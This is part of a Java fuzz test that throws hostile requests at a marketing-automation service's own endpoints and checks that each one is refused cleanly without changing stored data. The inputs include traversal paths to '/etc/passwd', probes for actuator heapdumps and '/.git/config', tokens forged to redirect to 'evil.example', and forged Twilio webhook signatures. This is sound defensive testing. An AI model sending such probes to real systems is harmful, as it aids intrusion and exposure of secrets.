	private String mutate(String token, String click) {
		int dot = token.indexOf('.');
		StringBuilder t = new StringBuilder(token);
		String alphabet = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_";
		switch (this.random.nextInt(11)) {
			case 0 -> {
				int at = this.random.nextInt(t.length());
				t.setCharAt(at, alphabet.charAt(this.random.nextInt(alphabet.length())));
			}
			case 1 -> t.deleteCharAt(this.random.nextInt(t.length()));
			case 2 -> t.insert(this.random.nextInt(t.length()), alphabet.charAt(this.random.nextInt(alphabet.length())));
			case 3 -> t.setLength(this.random.nextInt(t.length()));
			case 4 -> t.append(pick(List.of("x", "=", "==", ".", "..", "%00", "%2F", "/..", "%3F", "%23", "%3B")));
			case 5 -> {
				String forged = Base64.getUrlEncoder()
					.withoutPadding()
					.encodeToString(("CLICK|" + this.touch + "|" + this.target + "|https://evil.example/")
						.getBytes(StandardCharsets.UTF_8));
				return forged + token.substring(dot);
			}
			case 6 -> {
				return token.substring(dot + 1) + "." + token.substring(0, dot);
			}
			case 7 -> {
				return click.substring(0, click.indexOf('.')) + token.substring(dot);
			}
			case 8 -> {
				return encode(pick(NASTY));
			}
			case 9 -> {
				// a genuine token of another kind
				return token;
			}
			default -> t.insert(this.random.nextInt(t.length()), pick(List.of("%", "%zz", "é", " ", "\u0000")));
		}
		return t.toString();
	}

	private boolean verifiesFor(String token, String kind) {
		var claim = this.tokens.verify(token);
		if (claim.isEmpty()) {
			return false;
		}
		return switch (kind.substring(0, 1)) {
			case "c" -> claim.get().purpose() == TrackingTokens.Purpose.CLICK;
			case "o" -> claim.get().purpose() == TrackingTokens.Purpose.OPEN;
			case "r" -> claim.get().purpose() == TrackingTokens.Purpose.RESUBSCRIBE;
			default -> claim.get().purpose() == TrackingTokens.Purpose.UNSUBSCRIBE;
		};
	}

	private Req forgedWebhook() {
		String path = pick(List.of("/webhooks/twilio/sms", "/webhooks/twilio/status", "/webhooks/twilio/",
				"/webhooks/twilio/sms/", "/webhooks/other"));
		Map<String, String> params = new LinkedHashMap<>();
		params.put("MessageSid", "SM" + UUID.randomUUID().toString().replace("-", ""));
		// the target's own number: a forgery taken in would opt it out or in, which the snapshot shows
		params.put("From", pick(List.of(TARGET_PHONE, "+1 202 555 0199", pick(NASTY))));
		params.put("Body", pick(List.of("STOP", "START", "HELP", pick(NASTY))));
		params.put("MessageStatus", pick(List.of("delivered", "failed", pick(NASTY))));
		String form = params.entrySet()
			.stream()
			.map((e) -> encode(e.getKey()) + "=" + encode(e.getValue()))
			.collect(Collectors.joining("&"));
		List<String> headers = new ArrayList<>(List.of("X-Forwarded-For", client()));
		String signature = pick(List.of("", "forged", Base64.getEncoder().encodeToString(new byte[20]),
				Base64.getEncoder().encodeToString(UUID.randomUUID().toString().getBytes(StandardCharsets.UTF_8)),
				"x".repeat(4_000), "null"));
		if (this.random.nextInt(4) != 0) {
			headers.addAll(List.of("X-Twilio-Signature", signature));
		}
		String contentType = pick(List.of("application/x-www-form-urlencoded", "application/x-www-form-urlencoded",
				"application/json", "text/plain", "multipart/form-data"));
		headers.addAll(List.of("Content-Type", contentType));
		String method = pick(List.of("POST", "POST", "POST", "GET", "PUT"));
		byte[] body = method.equals("GET") ? null : form.getBytes(StandardCharsets.UTF_8);
		boolean chunked = false;
		switch (this.random.nextInt(8)) {
			case 0 -> body = ("Body=" + "x".repeat(17_000)).getBytes(StandardCharsets.UTF_8);
			case 1 -> chunked = body != null;
			default -> {
				// replayed or forged as it is
			}
		}
		return new Req(method, path, headers, body, chunked, (answer) -> answer.status() >= 400);
	}

	private Req anonymousInsights() {
		String path = "/insights/api/" + pick(INSIGHTS) + "?from=" + encode(pick(NASTY));
		return Req.rejected("GET", path, List.of("Authorization", ""), null).expecting((a) -> a.status() == 401);
	}

	private Req managerInsights() {
		List<String> dates = List.of("2024-02-30", "+999999999-12-31", "-999999999-01-01", "0000-01-01", "9999-12-31",
				"+300000-01-01", "2024-1-1", "", "2025-01-01T00:00:00Z", "1e9", "2030-01-01", "1970-01-01");
		String endpoint = this.random.nextInt(8) == 0
				? "leads/" + encode(pick(List.of(UUID.randomUUID().toString(), pick(NASTY), "x".repeat(40))))
						+ pick(List.of("/timeline", "/timeline.csv"))
				: pick(INSIGHTS);
		StringBuilder query = new StringBuilder();
		if (this.random.nextBoolean()) {
			query.append("&from=").append(encode(this.random.nextBoolean() ? pick(dates) : pick(NASTY)));
		}
		if (this.random.nextBoolean()) {
			query.append("&to=").append(encode(this.random.nextBoolean() ? pick(dates) : pick(NASTY)));
		}
		if (this.random.nextBoolean()) {
			query.append("&by=").append(encode(pick(List.of("industry", "grade", "companySize", "password", pick(NASTY)))));
		}
		String path = "/insights/api/" + endpoint + (query.isEmpty() ? "" : "?" + query.substring(1));
		return Req.harmless("GET", path, List.of(), null).asManager();
	}

	private Req oddRequest() {
		switch (this.random.nextInt(6)) {
			case 0 -> {
				String authorization = pick(List.of("Basic", "Basic ", "Basic !!!", basic("no-colon"), basic(":"),
						basic("fuzz-user-" + this.random.nextInt() + ":" + pick(NASTY)), basic(longText(3_000) + ":x"),
						"Bearer " + UUID.randomUUID(), "Digest username=\"admin\"", "basic " + basic("x:y").substring(6)));
				return Req.rejected("GET", "/api/leads?email=a%40fuzz.invalid", List.of("Authorization", authorization),
						null).expecting((a) -> a.status() == 401);
			}
			case 1 -> {
				String key = pick(List.of("", "wrong", longText(6_000), "test-api-key-", "test\tapi-key", "TEST-API-KEY",
						"sha256:" + "0".repeat(64)));
				return Req.rejected("GET", "/api/suppressions", List.of("X-Api-Key", key), null)
					.expecting((a) -> a.status() == 401);
			}
			case 2 -> {
				String path = pick(List.of("/error", "/error/x", "/api", "/api/", "/API/leads", "/t", "/t/", "/webhooks",
						"/insights/api", "/api/leads/../../engine-rest/user", "/actuator/env", "/actuator/heapdump",
						"/actuator/health/../env", "/.git/config", "/WEB-INF/web.xml", "/api/leads.json",
						"/api/leads/import/"));
				List<String> headers = path.startsWith("/api") ? List.of() : List.of("Authorization", "");
				return Req.harmless(pick(List.of("GET", "POST", "DELETE", "OPTIONS")), path, headers,
						null);
			}
			case 3 -> {
				String raw = pick(List.of("/%2e%2e/%2e%2e/etc/passwd", "/api/leads/%", "/t/c/%zz", "/api/%00", "/..;/api/leads",
						"/webhooks/twilio/sms%00", "/api/leads/%2F%2F", "//api//leads"));
				return Req.raw("GET", raw, List.of(), null).expecting((a) -> a.status() >= 400);
			}
			case 4 -> {
				String accept = pick(List.of("application/xml", "text/html", "image/png", "foo", "*/*;q=bogus",
						"application/json;q=0"));
				return Req.harmless("GET", "/api/leads/" + UUID.randomUUID(), List.of("Accept", accept), null);
			}
			default -> {
				String method = pick(List.of("TRACE", "PATCH", "PUT", "PROPFIND", "DELETE"));
				return Req.harmless(method, pick(List.of("/api/leads", "/api/leads/import", "/api/suppressions",
						"/api/inbound/email")), List.of("Content-Type", "application/json"), json(Map.of("email", pick(NASTY))));
			}
		}
	}

	// sending and judging

	private void batch(String endpoint, int count, Supplier<Req> requests) {
		StoredState before = stored();
		for (int i = 0; i < count; i++) {
			Req request = requests.get();
			Answer answer;
			try {
				answer = send(request);
			}
			catch (RuntimeException ex) {
				fail(endpoint + ": no answer (" + ex.getClass().getSimpleName() + ")", describe(request) + ": " + ex);
				continue;
			}
			judge(endpoint, request, answer);
			this.sent.merge(endpoint, 1, Integer::sum);
		}
		List<String> changes = before.changesTo(stored());
		if (!changes.isEmpty()) {
			fail(endpoint + ": refused requests changed what is stored", String.join("\n        ", changes));
		}
	}

	private void judge(String endpoint, Req request, Answer answer) {
		String problem = null;
		String contentType = answer.contentType();
		if (answer.status() >= 500 || answer.status() < 100) {
			problem = "server error";
		}
		else if (request.accepted() != null && !request.accepted().test(answer)) {
			problem = "not refused as it should be";
		}
		else if (answer.status() >= 400 && !request.method().equals("HEAD")) {
			boolean trackingPage = request.path().startsWith("/t/") && answer.status() == 404
					&& (contentType.startsWith("text/html") || answer.body().isEmpty());
			// the servlet container refuses some malformed requests before any of our code runs
			boolean refusedByContainer = request.raw() && answer.body().isEmpty() && contentType.isEmpty();
			boolean camunda = request.path().contains("engine-rest") || request.path().startsWith("/camunda");
			if (!trackingPage && !refusedByContainer && !camunda) {
				if (!contentType.startsWith("application/problem+json")) {
					problem = "refusal is not application/problem+json";
				}
				else {
					JsonNode json = readJson(answer.body());
					if (json == null || json.path("status").asInt() != answer.status() || !json.hasNonNull("title")) {
						problem = "problem body does not match its status";
					}
				}
			}
		}
		if (problem != null) {
			fail(endpoint + ": " + problem + " (" + answer.status() + " " + contentType.split(";")[0] + ")",
					describe(request) + " -> " + abbreviate(answer.body(), 300));
		}
	}

	private void fail(String kind, String example) {
		List<String> examples = this.failures.computeIfAbsent(kind, (k) -> new ArrayList<>());
		examples.add(example);
	}

	private Answer send(Req request) {
		boolean unsendable = false;
		for (int i = 1; i < request.headers().size(); i += 2) {
			unsendable |= request.headers().get(i).chars().anyMatch((c) -> c < 0x20 || c >= 0x7F);
		}
		if (request.raw() || unsendable) {
			return sendRaw(request);
		}
		if (request.viaManager()) {
			HttpResponse<String> response = this.manager.get(request.path());
			return new Answer(response.statusCode(), response.headers().firstValue("Content-Type").orElse(""),
					response.body());
		}
		HttpRequest.Builder builder = HttpRequest.newBuilder(URI.create(this.base + request.path()))
			.timeout(Duration.ofSeconds(30));
		boolean credentials = false;
		for (int i = 0; i < request.headers().size(); i += 2) {
			builder.header(request.headers().get(i), request.headers().get(i + 1));
			credentials |= request.headers().get(i).equalsIgnoreCase("Authorization")
					|| request.headers().get(i).equalsIgnoreCase("X-Api-Key");
		}
		if (!credentials) {
			builder.header("X-Api-Key", Api.API_KEY);
		}
		HttpRequest.BodyPublisher body;
		if (request.body() == null) {
			body = HttpRequest.BodyPublishers.noBody();
		}
		else if (request.chunked()) {
			byte[] bytes = request.body();
			body = HttpRequest.BodyPublishers.ofInputStream(() -> new ByteArrayInputStream(bytes));
		}
		else {
			body = HttpRequest.BodyPublishers.ofByteArray(request.body());
		}
		builder.method(request.method(), body);
		try {
			HttpResponse<byte[]> response = this.http.send(builder.build(), HttpResponse.BodyHandlers.ofByteArray());
			return new Answer(response.statusCode(), response.headers().firstValue("Content-Type").orElse(""),
					new String(response.body(), StandardCharsets.UTF_8));
		}
		catch (IOException ex) {
			throw new UncheckedIOException(ex);
		}
		catch (InterruptedException ex) {
			Thread.currentThread().interrupt();
			throw new IllegalStateException(ex);
		}
	}

	private Answer sendRaw(Req request) {
		StringBuilder head = new StringBuilder(request.method() + " " + request.path() + " HTTP/1.1\r\nHost: localhost\r\n"
				+ "Connection: close");
		boolean credentials = false;
		for (int i = 0; i < request.headers().size(); i += 2) {
			credentials |= request.headers().get(i).equalsIgnoreCase("Authorization")
					|| request.headers().get(i).equalsIgnoreCase("X-Api-Key");
		}
		if (!credentials) {
			head.append("\r\nX-Api-Key: ").append(Api.API_KEY);
		}
		for (int i = 0; i < request.headers().size(); i += 2) {
			head.append("\r\n").append(request.headers().get(i)).append(": ").append(request.headers().get(i + 1));
		}
		byte[] body = request.body();
		if (body != null) {
			head.append("\r\nContent-Length: ").append(body.length);
		}
		byte[] utf8Head = head.toString().getBytes(StandardCharsets.UTF_8);
		RawHttp.Response response = RawHttp.send(this.port, new String(utf8Head, StandardCharsets.ISO_8859_1), body);
		String contentType = (response.header("Content-Type") != null) ? response.header("Content-Type") : "";
		return new Answer(response.status(), contentType, response.body());
	}

	/** Every row a request could write and every journey's position, timed: it is read twice per batch. */
	private StoredState stored() {
		long started = System.nanoTime();
		StoredState state = StoredState.of(this.jdbc);
		this.snapshots++;
		this.snapshotNanos += System.nanoTime() - started;
		this.snapshotRows = state.size();
		return state;
	}

	// the lead that refused requests aim at, and the people who send them

	private void prepareTarget() {
		String email = "fuzz-target-" + UUID.randomUUID() + "@example.com";
		Api.Response created = new Api(this.port).postJson("/api/leads", "{\"email\":\"" + email
				+ "\",\"firstName\":\"Target\",\"phone\":\"" + TARGET_PHONE + "\",\"consent\":{\"email\":true,\"sms\":true}}");
		assertThat(created.status()).as(created.body()).isEqualTo(201);
		this.target = UUID.fromString(created.json().get("id").asText());
		// met by a rep but not qualified: its journey waits in the nurture cadence for any engagement,
		// so a forged click, reply or report that reached it would move it on
		JourneyDriver driver = new JourneyDriver(this.runtime, this.management, this.tasks, this.history);
		driver.settle(this.target);
		driver.complete(this.target, "Task_CallNewLead", Map.of(LeadNurture.CALL_OUTCOME, "meeting_booked"));
		driver.complete(this.target, "Task_Qualify", Map.of(LeadNurture.QUALIFIED, false));
		while (driver.hasTask(this.target, "Task_SocialTouch")) {
			driver.complete(this.target, "Task_SocialTouch", Map.of("socialTouchDone", true));
		}
		assertThat(driver.waitingAt(driver.journey(this.target, LeadNurture.PROCESS_KEY)))
			.contains("Gateway_WaitForEngagement");
		Long last = this.jdbc.sql("select max(id) from touch where lead_id = ?").param(this.target).query(Long.class)
			.single();
		this.touch = (last != null) ? last : 1;
		prepareReturningLead();
		prepareCustomer();
	}

	/** A customer in its customer journey: a churn recorded for it would end the journey and mark it. */
	private void prepareCustomer() {
		Api api = new Api(this.port);
		String lead = "{\"email\":\"fuzz-customer-" + UUID.randomUUID() + "@example.com\",\"consent\":{\"email\":true}}";
		this.customer = UUID.fromString(api.postJson("/api/leads", lead).json().get("id").asText());
		assertThat(api.postJson("/api/leads/" + this.customer + "/engagements", "{\"type\":\"CONVERTED\"}").status())
			.isEqualTo(201);
		new JourneyDriver(this.runtime, this.management, this.tasks, this.history).settle(this.customer);
		assertThat(new Api(this.port).get("/api/leads/" + this.customer).json().get("stage").asText()).isEqualTo("CUSTOMER");
	}

	/**
	 * A lead that unsubscribed from email and asked for it again on a form: its request waits for
	 * the emailed link, so a forged link that confirmed it would give its consent back.
	 */
	private void prepareReturningLead() {
		Api api = new Api(this.port);
		String lead = "{\"email\":\"fuzz-returning-" + UUID.randomUUID() + "@example.com\",\"consent\":{\"email\":true}}";
		this.returning = UUID.fromString(api.postJson("/api/leads", lead).json().get("id").asText());
		String unsubscribe = this.links.unsubscribe(1, this.returning);
		assertThat(api.send(api.request(unsubscribe.substring(unsubscribe.indexOf("/t/u/")), "Authorization", "")
			.header("Content-Type", "application/x-www-form-urlencoded")
			.POST(HttpRequest.BodyPublishers.ofString(""))).status()).isEqualTo(200);
		assertThat(api.postJson("/api/leads", lead).status()).isEqualTo(200);
		this.resubscription = this.jdbc.sql("select id from email_resubscription where lead_id = ?")
			.param(this.returning)
			.query(Long.class)
			.single();
	}

	private String user(String group) {
		String id = "fuzz" + UUID.randomUUID().toString().replace("-", "").substring(0, 10);
		User user = this.identity.newUser(id);
		user.setPassword(PASSWORD);
		this.identity.saveUser(user);
		this.identity.createMembership(id, group);
		return id;
	}

	// generators

	private Object noise(String field) {
		return switch (this.random.nextInt(8)) {
			case 0 -> pick(NASTY);
			case 1 -> this.random.nextInt();
			case 2 -> this.random.nextBoolean();
			case 3 -> null;
			case 4 -> field.equals("consent") ? Map.of("email", this.random.nextBoolean()) : pick(NASTY).strip();
			case 5 -> field.equals("interests") ? List.of(pick(NASTY)) : longText(1 + this.random.nextInt(60));
			case 6 -> List.of(pick(NASTY));
			default -> Map.of(pick(NASTY), pick(NASTY));
		};
	}

	private String unknownField(List<String> known) {
		String name;
		do {
			name = pick(List.of("password", "id", "stage", "fitScore", "__proto__", "constructor", "emails", "Email",
					"e-mail", "admin", "role", "consentEmail", pick(NASTY)));
		}
		while (known.contains(name));
		return name;
	}

	private byte[] malformedJson(Map<String, Object> value) {
		String valid = new String(json(value), StandardCharsets.UTF_8);
		String broken = switch (this.random.nextInt(14)) {
			case 0 -> valid.substring(0, 1 + this.random.nextInt(valid.length() - 1));
			case 1 -> valid.replace("\"", "'");
			case 2 -> valid.replaceFirst("}$", ",}");
			case 3 -> "/* comment */" + valid;
			case 4 -> "null";
			case 5 -> "[" + valid + "]";
			case 6 -> "\"" + valid.replace("\"", "\\\"") + "\"";
			case 7 -> "42";
			case 8 -> "";
			case 9 -> "{\"email\":}";
			case 10 -> "{" + "\"a\":[".repeat(60 + this.random.nextInt(5_000)) + "1";
			case 11 -> "{\"email\":" + "[".repeat(51 + this.random.nextInt(100_000)) + "]".repeat(5) + "}";
			case 12 -> valid.replaceFirst(":", ":NaN,\"x\":");
			default -> {
				byte[] garbage = new byte[1 + this.random.nextInt(500)];
				this.random.nextBytes(garbage);
				yield new String(garbage, StandardCharsets.ISO_8859_1);
			}
		};
		return broken.getBytes(StandardCharsets.ISO_8859_1.newEncoder().canEncode(broken) ? StandardCharsets.ISO_8859_1
				: StandardCharsets.UTF_8);
	}

	/** Bytes that are no UTF-8 in the email; overlong and surrogate forms with an unknown field as well. */
	private byte[] invalidUtf8(Map<String, Object> lead) {
		byte[][] invalid = { { (byte) 0xFF }, { (byte) 0xC3, 0x28 }, { (byte) 0xE2, (byte) 0x82, 0x28 },
				{ (byte) 0xF0, 0x28, (byte) 0x8C, 0x28 }, { (byte) 0xFE, (byte) 0xFE } };
		byte[][] dubious = { { (byte) 0xED, (byte) 0xA0, (byte) 0x80 }, { (byte) 0xC0, (byte) 0xAF },
				{ (byte) 0xE0, (byte) 0x80, (byte) 0xAF }, { (byte) 0xF4, (byte) 0x90, (byte) 0x80, (byte) 0x80 } };
		byte[] bad;
		if (this.random.nextBoolean()) {
			bad = invalid[this.random.nextInt(invalid.length)];
		}
		else {
			bad = dubious[this.random.nextInt(dubious.length)];
			lead.put("stage", "SQL");
		}
		lead.put("email", "fuzz-utf8-" + (++this.serial) + "@fuzz.invalid");
		String text = new String(json(lead), StandardCharsets.UTF_8);
		int at = text.indexOf("@fuzz.invalid");
		ByteArrayOutputStream out = new ByteArrayOutputStream();
		out.writeBytes(text.substring(0, at).getBytes(StandardCharsets.UTF_8));
		out.writeBytes(bad);
		out.writeBytes(text.substring(at).getBytes(StandardCharsets.UTF_8));
		return out.toByteArray();
	}

	private String longText(int length) {
		StringBuilder text = new StringBuilder(length);
		while (text.length() < length) {
			text.append(pick(NASTY).replaceAll("[\\p{Cntrl}\\s]", "_")).append('x');
		}
		return text.substring(0, length);
	}

	private String client() {
		this.clients++;
		return "10." + (this.clients >> 16 & 0xff) + "." + (this.clients >> 8 & 0xff) + "." + (this.clients & 0xff);
	}

	private <T> T pick(List<T> options) {
		return options.get(this.random.nextInt(options.size()));
	}

	private static byte[] json(Object value) {
		try {
			return JSON.writeValueAsBytes(value);
		}
		catch (IOException ex) {
			throw new UncheckedIOException(ex);
		}
	}

	private static JsonNode readJson(String body) {
		try {
			return JSON.readTree(body);
		}
		catch (IOException ex) {
			return null;
		}
	}

	private static String encode(String text) {
		return URLEncoder.encode(text, StandardCharsets.UTF_8).replace("+", "%20");
	}

	private static String basic(String credentials) {
		return "Basic " + Base64.getEncoder().encodeToString(credentials.getBytes(StandardCharsets.UTF_8));
	}

	private static String token(String link) {
		return link.substring(link.lastIndexOf('/') + 1);
	}

	private static String describe(Req request) {
		String body = (request.body() != null)
				? " body " + abbreviate(new String(request.body(), StandardCharsets.UTF_8), 160) : "";
		List<String> headers = new ArrayList<>();
		for (int i = 0; i < request.headers().size(); i += 2) {
			headers.add(request.headers().get(i) + ": " + abbreviate(request.headers().get(i + 1), 60));
		}
		return request.method() + " " + abbreviate(request.path(), 200) + " " + headers + body;
	}

	private static String abbreviate(String text, int length) {
		String visible = text.replaceAll("\\p{Cntrl}", "?");
		return (visible.length() <= length) ? visible : visible.substring(0, length) + "…(" + text.length() + ")";
	}

	/**
	 * One hostile request.
	 * @param accepted what a non-5xx answer must also satisfy; null for any
	 * @param raw sent over a plain socket, for what an HTTP client refuses to send
	 */
	private record Req(String method, String path, List<String> headers, byte[] body, boolean chunked,
			Predicate<Answer> accepted, boolean raw, boolean viaManager) {

		Req(String method, String path, List<String> headers, byte[] body, boolean chunked, Predicate<Answer> accepted) {
			this(method, path, headers, body, chunked, accepted, false, false);
		}

		/** Must be refused: a 4xx. */
		static Req rejected(String method, String path, List<String> headers, byte[] body) {
			return new Req(method, path, headers, body, false, (answer) -> answer.status() >= 400);
		}

		/** May be answered with anything but a server error (reads, lookups of nothing). */
		static Req harmless(String method, String path, List<String> headers, byte[] body) {
			return new Req(method, path, headers, body, false, null);
		}

		static Req raw(String method, String path, List<String> headers, byte[] body) {
			return new Req(method, path, headers, body, false, null, true, false);
		}

		Req expecting(Predicate<Answer> accepted) {
			return new Req(this.method, this.path, this.headers, this.body, this.chunked, accepted, this.raw,
					this.viaManager);
		}

		Req asManager() {
			return new Req(this.method, this.path, this.headers, this.body, this.chunked, this.accepted, this.raw, true);
		}

	}

	private record Answer(int status, String contentType, String body) {
	}

}
